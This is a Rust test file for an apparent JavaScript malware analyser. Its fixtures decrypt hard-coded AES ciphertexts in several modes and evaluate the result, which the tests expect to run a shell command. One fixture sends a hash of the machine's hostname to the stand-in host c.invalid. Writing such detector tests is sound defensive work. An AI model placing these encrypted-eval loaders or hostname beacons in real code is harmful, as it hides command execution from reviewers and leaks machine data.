//! AES with a key that stands in the code is a layer like any other encoding.

use foretaste_javascript::observe;
use foretaste_model::facts::{FileFacts, Layer};
use foretaste_model::{Capability, Limits};

fn layers(code: &str) -> Vec<Layer> {
    let facts: FileFacts = observe("a.js", code, &Limits::default());
    facts.layers
}

/// The one layer runs a command, and its steps end in `aes`.
fn runs_a_command(code: &str) {
    let layers = layers(code);
    let found = layers.iter().any(|layer| {
        layer.executed
            && layer.steps.iter().any(|s| &**s == "aes")
            && layer
                .facts
                .uses
                .iter()
                .any(|u| u.capability == Capability::ProcessShell)
    });
    assert!(found, "{code}: {layers:#?}");
}

const KEY: &str = "000102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1e1f";
const VECTOR: &str = "0f0e0d0c0b0a09080706050403020100";
const CBC: &str = "CBvTLkeVwGkZQk/NQhzmi4y1g8P3u1WuzA/F5AbxFDbpPxBijHrPQDx56KDslrmM";

#[test]
fn every_mode_is_undone() {
    runs_a_command(&format!(
        "const c = require('crypto'); const d = c.createDecipheriv('aes-256-cbc', Buffer.from('{KEY}', 'hex'), Buffer.from('{VECTOR}', 'hex'));
         eval(d.update('{CBC}', 'base64', 'utf8') + d.final('utf8'))"
    ));
    runs_a_command(&format!(
        "import {{ createDecipheriv }} from 'node:crypto'; const d = createDecipheriv('aes-256-ctr', Buffer.from('{KEY}', 'hex'), Buffer.from('{VECTOR}', 'hex'));
         new Function('require', d.update('00d4924d25012a0351c9aca3e626dad19d12224fb2a7e5de158e063080f4a8846d4f3cb657a2c16483723f59', 'hex', 'utf8'))(require)"
    ));
    runs_a_command(
        "const d = require('crypto').createDecipheriv('aes-128-ecb', '0123456789abcdef', null);
         eval(Buffer.concat([d.update(Buffer.from('RvLZqBG2JzbF7gFRCa3oL6ywOY29XemmGG6lVEgPp25rpy0Euaczq1Oy3EY9FBig', 'base64')), d.final()]).toString())",
    );
    runs_a_command(&format!(
        "const d = require('crypto').createDecipheriv('aes-256-gcm', Buffer.from('{KEY}', 'hex'), Buffer.from('000102030405060708090a0b', 'hex'));
         d.setAuthTag(Buffer.from('cfc98afbd5a0729696491fed7cd2c79c', 'hex'));
         let s = d.update('3567a76eac97a733af22ffe2dd8d271df1b9e45183087d5516029de07e4122d76278c1dcc6af77ea008656d6', 'hex', 'utf8'); s += d.final('utf8'); eval(s)"
    ));
}

#[test]
fn a_key_may_be_made_first() {
    // from a digest, in a function, under other names
    runs_a_command(&format!(
        "const q = require('crypto'); const k = q.createHash('sha256').update('inert secret').digest();
         function open(text) {{ const z = q.createDecipheriv('aes-256-cbc', k, Buffer.from('{VECTOR}', 'hex')); return z.update(text, 'hex', 'utf8') + z.final('utf8') }}
         eval(open('1e31abdc49d3399bc8969d891d91f0f122eb02b470813ab7db3fb97f4beee3745536e5a26b24fbb3f3212c0cc95745ab'))"
    ));
    runs_a_command(
        "const CryptoJS = require('crypto-js');
         eval(CryptoJS.AES.decrypt('U2FsdGVkX18BAgMEBQYHCFRFuVZiadmbZZ+zeHWJUF7d5TsTIh+NJygxAi5tTKK5rdUzEQIJsePWZHQLxjYRkg==', 'inert').toString(CryptoJS.enc.Utf8))",
    );
}

#[test]
fn a_key_may_be_made_of_pieces() {
    // the same piece twice, in one statement and in several, known at once and only when the file was read through
    let text = "cbdb7d8ca9118447d9eb9c73492fb315075104f6a9423b24714a729823e2ecde35ec7be212765c7c46a9bd923551df6b";
    for key in [
        "q.createHash('sha256').update('in').update('ert').update('ert').digest()",
        "(() => { const h = q.createHash('sha256'); h.update('in'); h.update('ert'); h.update('ert'); return h.digest() })()",
        "(() => { const h = q.createHash('sha256'); h.update(first()); h.update('ert'); h.update('ert'); return h.digest() })()",
    ] {
        runs_a_command(&format!(
            "const q = require('crypto'); const k = {key}; const d = q.createDecipheriv('aes-256-cbc', k, Buffer.from('{VECTOR}', 'hex'));
             eval(d.update('{text}', 'hex', 'utf8') + d.final('utf8')); function first() {{ return 'in' }}"
        ));
    }
}

#[test]
fn what_is_not_constant_is_no_layer() {
    for code in [
        format!(
            "const d = require('crypto').createDecipheriv('aes-256-cbc', key, iv); use(d.update('{CBC}', 'base64', 'utf8'))"
        ),
        format!(
            "const d = require('crypto').createDecipheriv('des-cbc', '{KEY}', '{VECTOR}'); use(d.update('{CBC}', 'base64', 'utf8'))"
        ),
        "const h = require('crypto').createHash('sha256').update(text).digest('hex'); use(h)"
            .to_owned(),
        "use(Buffer.concat([a, b]).toString())".to_owned(),
    ] {
        let layers = layers(&code);
        assert!(layers.is_empty(), "{code}: {layers:#?}");
    }
}

#[test]
fn digests_of_the_machine_still_flow() {
    let facts = observe(
        "a.js",
        "const h = require('crypto').createHash('md5').update(require('os').hostname()).digest('hex'); fetch('https://c.invalid/' + h)",
        &Limits::default(),
    );
    assert_eq!(facts.flows.len(), 1, "{:?}", facts.flows);
}
